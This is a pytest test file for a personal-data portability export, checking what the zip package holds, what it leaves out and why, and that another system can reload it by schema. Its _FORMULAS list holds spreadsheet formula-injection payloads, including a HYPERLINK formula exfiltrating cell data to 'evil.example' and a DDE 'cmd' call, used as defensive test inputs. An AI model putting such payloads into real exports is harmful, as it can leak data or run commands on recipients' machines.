"""Portability: what she provided, under consent or contract, loaded by its schema elsewhere."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import hashlib
import html
import io
import json
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kept import deployment
from kept.controller import Controller
from kept.controls.evidence import Outcome
from kept.controls.registry import registered
from kept.controls.runner import run
from kept.duties import holds, rights
from kept.duties.rights import Request, tables
from kept.duties.rights.tables import NULL
from kept.errors import Denied, UsageError
from kept.terms import spreadsheets
from kept.terms.identifiers import parse
from kept.terms.origins import origin_of
from kept.terms.vocabulary import SHIPPED, Term
from tests.world import NOW, edit, sql

ANA, BEN = parse("email=ana@example.org"), parse("email=ben@example.org")
#: Table Schema type → SQLite type, for a system that knows nothing but the schema.
_SQL = {"string": "TEXT", "integer": "INTEGER", "number": "NUMERIC", "datetime": "TEXT",
        "boolean": "TEXT", "date": "TEXT", "any": "TEXT"}  # fmt: skip
SCORES = """
  score:
    title: Scores
    key: [id]
    retention: account
    activities: [service]
    fields:
      id: {type: integer, nullable: false}
      customer: {type: integer, category: identifier.account, nullable: false}
      says: {category: contact.company}
      worth: {category: enrichment}
      group: {category: contact.job, origin: derived}
      words: {category: free-text, free_text: true}
      clerk: {type: integer}
    links:
      - {fields: [customer], to: customer, on: [id], kind: owned-by}
      - {fields: [clerk], to: customer, on: [id], kind: accessed-by}
"""


@pytest.fixture
def scores(world: Path) -> Path:
    sql(
        world,
        "CREATE TABLE score (id INTEGER PRIMARY KEY, customer INTEGER, says TEXT, worth TEXT,"
        ' "group" TEXT, words TEXT, clerk INTEGER)',
    )
    rows: list[tuple[object, ...]] = [
        (1, 1, 'Acme, "Ltd"\nNorth', "rich", "A", "hers", None),
        (2, 1, None, "poor", "B", "of a clerk", 2),
        (3, 1, "", "poor", "B", None, None),
        (4, 2, "Ben's", "poor", "B", "his", None),
    ]
    for row in rows:
        sql(world, "INSERT INTO score VALUES (?, ?, ?, ?, ?, ?, ?)", *row)
    edit(world / "shop.yml", "datasets:\n", f"datasets:{SCORES}")
    return world


@pytest.fixture
def controller(scores: Path) -> Iterator[Controller]:
    with Controller.open(deployment.read(scores)) as opened:
        yield opened


def _port(controller: Controller, path: Path, who: Any = ANA, **more: Any) -> Any:
    return rights.port(controller, Request(((who,),), override="test"), NOW, out=path, **more)


def _files(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _bare(described: dict[str, Any], cell: str) -> str:
    """As the description says: every match of its pattern goes."""
    return re.sub(described["guarded"]["pattern"], "", cell)


def _load(files: dict[str, bytes]) -> sqlite3.Connection:
    """Another system: it makes its tables by the schema alone and reads the CSV into them."""
    described = json.loads(files["datapackage.json"])
    database = sqlite3.connect(":memory:")
    for one in described["resources"]:
        schema = one["schema"]
        columns = [f'"{f["name"]}" {_SQL[f["type"]]}' for f in schema["fields"]]
        columns.append("PRIMARY KEY ({})".format(", ".join(schema["primaryKey"])))
        columns += [
            'FOREIGN KEY ({}) REFERENCES "{}" ({})'.format(
                ", ".join(k["fields"]), k["reference"]["resource"],
                ", ".join(k["reference"]["fields"]),
            )
            for k in schema["foreignKeys"]
        ]  # fmt: skip
        database.execute(f'CREATE TABLE "{one["name"]}" ({", ".join(columns)})')
    for one in described["resources"]:
        schema = one["schema"]
        table = csv.reader(io.StringIO(files[one["path"]].decode(), newline=""))
        assert next(table) == [f["name"] for f in schema["fields"]]
        marks = ", ".join("?" * len(schema["fields"]))
        for row in table:
            values = [None if cell in schema["missingValues"] else _bare(one, cell) for cell in row]
            database.execute(f'INSERT INTO "{one["name"]}" VALUES ({marks})', values)
    assert database.execute("PRAGMA foreign_key_check").fetchall() == []
    return database


#: Texts of people of which a spreadsheet could make formulas, here or in another country.
_FORMULAS = [
    "=1+1", "+49 30 1", "-1+1|cmd", "@x", "\t=1", "\r=1", "\uff1d1", "\ufe621", "\u22121+1",
    *(f"{skipped}=1" for skipped in "\x00\x0b\x0c \xa0\ufeff\u200b\u2028\x85\"'"),
    'Ana;=HYPERLINK("http://evil.example/?"&A1);x', "x\";=cmd|' /C calc'!A0;\"", "plain;=1+1",
    "a,=1", "a\t=1", "a|=1", "a\n=1", "a\r\n=1", "a; \xa0\"'=1", ";;=1", "'=1", "''=1",
    "\\N", "'\\N",
]  # fmt: skip


@pytest.mark.parametrize("separator", ";,\t|")
def test_no_spreadsheet_of_any_country_runs_what_people_wrote(separator: str) -> None:
    out = io.StringIO()
    columns = tables.Columns(("id", "text", "note"), None)
    tables.write(lambda _: None, out, columns, [(1, text, "x") for text in _FORMULAS])
    read = csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=separator)
    skipped = '\x00\x0b\x0c \t\r\n\xa0\ufeff\u200b\u2028\x85"'
    begun = [cell.lstrip(skipped)[:1] for row in read for cell in row]
    assert not {*"=+-@\uff1d\ufe62\u2212"} & set(begun)


@pytest.mark.parametrize("text", [*_FORMULAS, "'\\N\n", "-5", "'-5", "a\n\nb", "1,-5"])
def test_what_is_guarded_is_read_back_by_the_pattern_alone(text: str) -> None:
    pattern = spreadsheets.GUARDED["pattern"]
    assert spreadsheets.unguarded(spreadsheets.guarded(text)) == text
    assert re.sub(pattern, "", spreadsheets.guarded(text)) == text


@given(st.text(alphabet="'\"=+-;,|\t\r\n \x00\ufeff\\N1a", max_size=12))
def test_nothing_is_lost_by_guarding(text: str) -> None:
    assert spreadsheets.unguarded(spreadsheets.guarded(text)) == text
    assert spreadsheets.guarded(text) != NULL


def test_numbers_stay_numbers_and_bytes_and_spans_run_nothing() -> None:
    values = (-5, -1.5e-7, decimal.Decimal("-1E+3"), True, None)
    assert [tables.cell(v) for v in values] == ["-5", "-1.5e-07", "-1E+3", "true", NULL]
    odd = (b"\xfb\xff", dt.timedelta(-1), float("-inf"))
    assert [tables.cell(v)[:2] for v in odd] == ["'+", "'-", "'-"]


def test_another_system_loads_it_by_its_schema(controller: Controller, tmp_path: Path) -> None:
    answer = _port(controller, tmp_path / "along.zip")
    assert answer.complete
    files = _files(tmp_path / "along.zip")
    loaded = _load(files)
    assert loaded.execute('SELECT id, email, name, phone FROM "shop.customer"').fetchall() == [
        (1, "ana@example.org", "Ana O'Neill", "+49 30 123456")
    ]
    assert loaded.execute('SELECT * FROM "shop.score" ORDER BY id').fetchall() == [
        (1, 1, 'Acme, "Ltd"\nNorth', "hers"),
        (2, 1, None, None),  # the words of a clerk are his as well
        (3, 1, "", None),  # an empty text is no null
    ]
    assert loaded.execute('SELECT id, total FROM "shop.invoice" ORDER BY id').fetchall() == [
        (1, "10.00"), (2, "12.00"),
    ]  # fmt: skip
    # The JSON beside it holds the same, exactly.
    for one in json.loads(files["datapackage.json"])["resources"]:
        exact = json.loads(files[one["exact"]])
        table = [
            {k: _bare(one, v) for k, v in row.items()}
            for row in csv.DictReader(io.StringIO(files[one["path"]].decode(), newline=""))
        ]
        assert [
            {k: NULL if v is None else str(v) for k, v in row.items()} for row in exact
        ] == table
        assert all(f.get("rdfType", "https://w3id.org/").startswith("https://w3id.org/")
                   for f in one["schema"]["fields"])  # fmt: skip
    told = json.loads(files["manifest.json"])["files"]
    assert told.keys() == files.keys() - {"manifest.json"}
    assert all(hashlib.sha256(files[n]).hexdigest() == t["sha256"] for n, t in told.items())


def test_nothing_inferred_bought_or_of_another_ground(
    controller: Controller, tmp_path: Path
) -> None:
    answer = _port(controller, tmp_path / "along.zip")
    text = str(_files(tmp_path / "along.zip"))
    for word in ("rich", "poor", "'B'", "of a clerk", "Ben", "called"):
        assert word not in text, word
    left = {(one.where, one.fields, one.rows): one.why for one in answer.left_out}
    assert left["shop.score", ("group",), 0] == "made of other data"
    assert left["shop.score", ("worth",), 0] == "given by others"
    assert "others of the organisation" in left["shop.score", ("words",), 1]
    # Her notes are there to answer her: an interest, neither consent nor contract.
    (note,) = (one for one in answer.left_out if one.where == "shop.note")
    assert (note.whole, note.rows, note.reason) == (True, 1, "ground")
    assert note.fields == ("id", "about", "words", "at")


def test_every_column_goes_along_or_is_named_with_why(
    controller: Controller, scores: Path, tmp_path: Path
) -> None:
    """Nothing is dropped in silence: not what has no category, not what no map names."""
    for column in ("played", "pieces", "batch", "strange", "extra"):
        sql(scores, f"ALTER TABLE score ADD COLUMN {column} TEXT DEFAULT '{column} here'")
    edit(scores / "shop.yml", "      clerk: {type: integer}\n", "      clerk: {type: integer}\n"
         "      played: {origin: provided}\n      pieces: {origin: observed}\n"
         "      batch: {origin: own}\n      strange: text\n")  # fmt: skip
    with Controller.open(deployment.read(scores)) as again:
        answer = _port(again, tmp_path / "along.zip")
    files = _files(tmp_path / "along.zip")
    rows = json.loads(files["data/shop.score.json"])
    assert {(r["played"], r["pieces"]) for r in rows} == {("played here", "pieces here")}
    left = {f: one.reason for one in answer.left_out
            if one.where == "shop.score" and not one.rows for f in one.fields}  # fmt: skip
    assert left == {
        "worth": "others", "group": "derived", "clerk": "staff", "batch": "own",
        "strange": "undecided", "extra": "unmapped",
    }  # fmt: skip
    (described,) = (one for one in json.loads(files["datapackage.json"])["resources"]
                    if one["name"] == "shop.score")  # fmt: skip
    origins = {f["name"]: f.get("origin") for f in described["schema"]["fields"]}
    assert origins == {"id": None, "customer": "observed", "says": "provided",
                       "words": "provided", "played": "provided", "pieces": "observed"}  # fmt: skip
    # Each column of the table is in the file or among what was left out, and never in both.
    columns = {str(r[1]) for r in sql(scores, "PRAGMA table_info(score)")}
    assert rows[0].keys() | left.keys() == columns
    assert not rows[0].keys() & left.keys()
    # What the command says is what the package says, to programs and to her.
    told = json.loads(files["answer.json"])["left_out"]
    assert told == answer.document()["left_out"]
    page = html.unescape(files["index.html"].decode())
    out = page.partition("What is not in here</h2>")[2]
    for name in (*left, "Nobody has written down yet"):
        assert name in out, name
    inside = page.partition("What is in here</h2>")[2].partition("What is not in here")[0]
    assert all(f"<code>{name}</code>" in inside for name in rows[0])
    assert set(re.findall(r'href="([^"#:]+)"', page)) <= files.keys()


def test_a_dataset_may_say_it_for_its_fields(
    controller: Controller, scores: Path, tmp_path: Path
) -> None:
    """The field's own word counts first, then its category's, then its dataset's."""
    sql(scores, "ALTER TABLE score ADD COLUMN played TEXT DEFAULT 'played here'")
    edit(scores / "shop.yml", "    title: Scores\n", "    title: Scores\n    origin: observed\n")
    edit(scores / "shop.yml", "      clerk: {type: integer}\n",
         "      clerk: {type: integer}\n      played: text\n")  # fmt: skip
    with Controller.open(deployment.read(scores)) as again:
        _port(again, tmp_path / "seen.zip")
    rows = json.loads(_files(tmp_path / "seen.zip")["data/shop.score.json"])
    # The category still knows better: `worth` was bought.
    assert rows[0].keys() == {"id", "customer", "says", "words", "played"}
    # A dataset's word, whichever it is, is for what has no category.
    edit(scores / "shop.yml", "    origin: observed\n", "    origin: own\n")
    with Controller.open(deployment.read(scores)) as again:
        answer = _port(again, tmp_path / "noted.zip")
        rows = json.loads(_files(tmp_path / "noted.zip")["data/shop.score.json"])
        assert rows[0].keys() == {"id", "customer", "says", "words"}
        left = {f: one.reason for one in answer.left_out
                if one.where == "shop.score" and not one.rows for f in one.fields}  # fmt: skip
        assert left == {"played": "own", "worth": "others", "group": "derived", "clerk": "staff"}
        (known,) = run(again, registered(), NOW, names=["rights.what-is-portable-is-known"])
        assert known.outcome is Outcome.PASS, known.findings
    # A list that was bought says so at its fields.
    for before in ("{category: contact.company}", "{category: free-text, free_text: true}"):
        edit(scores / "shop.yml", before, before.replace("}", ", origin: others}"))
    with Controller.open(deployment.read(scores)) as again:
        answer = _port(again, tmp_path / "bought.zip")
    assert "data/shop.score.json" not in _files(tmp_path / "bought.zip")
    (score,) = (one for one in answer.left_out if one.where == "shop.score")
    assert (score.whole, score.reason) == (True, "nothing")


def test_what_the_row_says_of_its_ground_counts(
    controller: Controller, scores: Path, tmp_path: Path
) -> None:
    sql(scores, "INSERT INTO signup VALUES (7, 1, 'talk', '2025-01-01', 'legitimate-interest')")
    sql(scores, "INSERT INTO signup VALUES (8, 1, 'visit', '2025-01-02', 'consent')")
    answer = _port(controller, tmp_path / "along.zip")
    assert answer.complete
    files = _files(tmp_path / "along.zip")
    assert [r["id"] for r in json.loads(files["data/shop.signup.json"])] == [1, 8]
    tables = {t["where"]: t for t in json.loads(files["answer.json"])["tables"]}
    assert tables["shop.signup"]["grounds"] == {"contract": 1, "consent": 1}
    assert any(one.where == "shop.signup" and one.rows == 1 for one in answer.left_out)


def test_everybody_is_served_and_nothing_before_it_is_known_who_asks(
    controller: Controller, tmp_path: Path
) -> None:
    for region in ("EEA", "US", "other"):
        path = tmp_path / f"{region}.zip"
        assert _port(controller, path, BEN, region=region).complete
        assert "Ben@Example.org" in str(_files(path))
    with pytest.raises(Denied, match="no evidence"):
        rights.port(controller, Request(((ANA,),)), NOW, out=tmp_path / "no.zip")
    assert not (tmp_path / "no.zip").exists()
    with pytest.raises(UsageError, match="already"):
        _port(controller, tmp_path / "US.zip")
    with pytest.raises(UsageError, match="neither a region"):
        _port(controller, tmp_path / "x.zip", region="Mars")
    bodies = [e.body for _, e in controller.ledger.entries(kind="access.given")]
    assert [b["right"] for b in bodies] == ["portability"] * 3


def test_a_system_that_is_away_is_named(
    controller: Controller, scores: Path, tmp_path: Path
) -> None:
    (scores / "shop.sqlite").rename(scores / "away.sqlite")
    answer = _port(controller, tmp_path / "one.zip")
    assert (answer.complete, [s for s, _ in answer.unreached]) == (False, ["shop"])
    (scores / "away.sqlite").rename(scores / "shop.sqlite")
    again = rights.port(
        controller, Request((), case=answer.case), NOW, out=tmp_path / "two.zip"
    )  # fmt: skip
    assert again.complete
    with pytest.raises(UsageError, match="closed"):
        rights.port(controller, Request((), case=answer.case), NOW, out=tmp_path / "three.zip")


def test_what_an_erasure_left_is_named_and_not_taken_along(
    controller: Controller, scores: Path, tmp_path: Path
) -> None:
    actor = controller.actors.of("Kim", "operator", NOW)
    holds.place(controller, ground="a dispute", clause="RET-10", actor=actor, now=NOW,
                person=[ANA])  # fmt: skip
    erased = rights.erase(controller, Request(((ANA,),), override="test"), NOW)
    stayed = {f"{s.store}.{s.dataset}": s.counts.retained for s in erased.steps
              if s.counts.retained and s.store != "own"}  # fmt: skip
    assert stayed
    answer = _port(controller, tmp_path / "along.zip")
    assert answer.complete
    assert {one.where: one.rows for one in answer.left_out if one.reason == "kept"} == stayed
    files = _files(tmp_path / "along.zip")
    assert "ana@example.org" not in str([d for n, d in files.items() if n.startswith("data/")])
    page = " ".join(html.unescape(files["index.html"].decode()).split())
    assert "Nothing of what we found was left out." not in page
    assert "It was to be deleted, and stays for now only because something asks for that." in page


def test_the_origin_of_a_field() -> None:
    assert origin_of(SHIPPED, "contact.email", None) == "provided"
    assert origin_of(SHIPPED, "navigation.ip", None) == "observed"
    assert origin_of(SHIPPED, "enrichment", None) == "others"
    assert origin_of(SHIPPED, "contact.email", "derived") == "derived"
    assert origin_of(SHIPPED, None, None) is None
    words = SHIPPED.with_terms(
        {"categories": [Term("shoe-size", None, "Shoes"), Term("job.title", "contact", "Job")]}
    )
    assert origin_of(words, "shoe-size", None) is None
    assert origin_of(words, "job.title", None) == "provided"
    assert all(origin_of(SHIPPED, c, None) for c in SHIPPED.categories)
